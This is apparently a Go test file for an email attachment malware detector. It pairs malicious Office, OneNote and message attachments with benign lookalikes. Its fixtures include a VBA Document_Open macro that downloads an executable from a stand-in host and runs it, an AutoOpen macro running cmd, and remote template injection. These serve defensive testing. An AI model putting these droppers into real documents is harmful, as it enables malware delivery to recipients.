package detect_test

import (
	"context"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
	"time"

	"tocsin/internal/detect"
	"tocsin/internal/email"
	"tocsin/internal/scan"
	"tocsin/internal/scan/scantest"
)

// TestOfficeTwins judges documents with what attackers put into them beside those that offices really send.
func TestOfficeTwins(t *testing.T) {
	template := func(target string) []byte {
		return scantest.DOCX(scantest.Paragraph("Our offer"), scantest.Rels("word/settings.xml", scantest.Relation{Kind: "attachedTemplate", Target: target, External: true}))
	}
	macro := func(source string) []byte {
		return scantest.DOCM(nil, scantest.Module{Name: "ThisDocument", Source: source})
	}
	judge := detect.NewJudge(detect.Options{Rules: shippedRules(t)})
	for _, c := range []struct {
		name, file string
		content    []byte
		malware    bool
	}{
		{"macro that fetches and starts", "offer.docm", macro("Sub Document_Open()\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"GET\", \"http://a.letters.example/b.exe\"\nShell Environ(\"TEMP\") & \"\\b.exe\"\nEnd Sub\n"), true},
		{"the same in a doc that was renamed", "offer.doc", macro("Sub AutoOpen()\nShell \"cmd /c a\"\nEnd Sub\n"), true},
		{"macro that formats", "offer.docm", macro("Sub Tidy()\nActiveDocument.Paragraphs(1).Range.Bold = True\nEnd Sub\n"), false},
		{"macro that sets a date when opened", "offer.docm", macro("Sub Document_Open()\nActiveDocument.Fields.Update\nEnd Sub\n"), false},
		{"docm without macros", "offer.docm", scantest.DOCX(scantest.Paragraph("Our offer")), false},
		{"template from the internet", "offer.docx", template("http://a.letters.example/t.dotm"), true},
		{"template on the file server", "offer.docx", template(`file:///\\files01\templates\offer.dotx`), false},
		{"letter with links", "offer.docx", scantest.DOCX(scantest.Field(` HYPERLINK "https://www.letters.example/terms" `)), false},
		{"workbook linked to a share", "budget.xlsx", scantest.XLSX("", scantest.Rels("xl/externalLinks/externalLink1.xml", scantest.Relation{Kind: "externalLinkPath", Target: `file:///\\files01\finance\plan.xlsx`, External: true})), false},
		{"locked workbook", "budget.xlsx", scantest.Encrypt(scantest.XLSX(""), "unknown", 10), false},
		{"note with a script", "note.one", scantest.OneNote(scantest.Entry{Name: "view.hta", Data: "<script></script>"}), true},
		{"note with a letter", "note.one", scantest.OneNote(scantest.Entry{Name: "agenda.pdf", Data: "%PDF-1.7"}), false},
		{"saved message with a letter", "mail.msg", scantest.MSG(scantest.Saved{Subject: "Offer", Body: "See the file.", Files: []scantest.Entry{{Name: "a.pdf", Data: "%PDF-1.7"}}}), false},
		{"saved message with a program", "mail.msg", scantest.MSG(scantest.Saved{Subject: "Offer", Files: []scantest.Entry{{Name: "a.exe", Data: "MZ"}}}), true},
	} {
		raw := fmt.Sprintf("From: Lena Brandt <lena@letters.example>\r\nTo: maren@northwind.example\r\nSubject: Our offer\r\nMessage-ID: <1@letters.example>\r\nDate: Tue, 17 Nov 2026 09:12:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nGood morning Maren, here is what we spoke about last week. Best regards, Lena\r\n--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=%q\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n--b--\r\n", c.file, base64.StdEncoding.EncodeToString(c.content))
		m := email.Parse([]byte(strings.ReplaceAll(raw, "\x00", "")), email.Limits{})
		x := &detect.Context{Message: m, Direction: detect.Inbound, Now: time.Date(2026, 11, 18, 12, 0, 0, 0, time.UTC), Recipients: []string{"maren@northwind.example"}}
		x.Files = scan.Open(context.Background(), m, scan.Limits{})
		v := judge.Judge(context.Background(), x)
		if v.Is(detect.Malware) != c.malware || !c.malware && len(v.Threats) > 0 {
			t.Errorf("%s: %v %s; facts %+v", c.name, v.Threats, ids(v), x.Files.Facts)
		}
	}
}
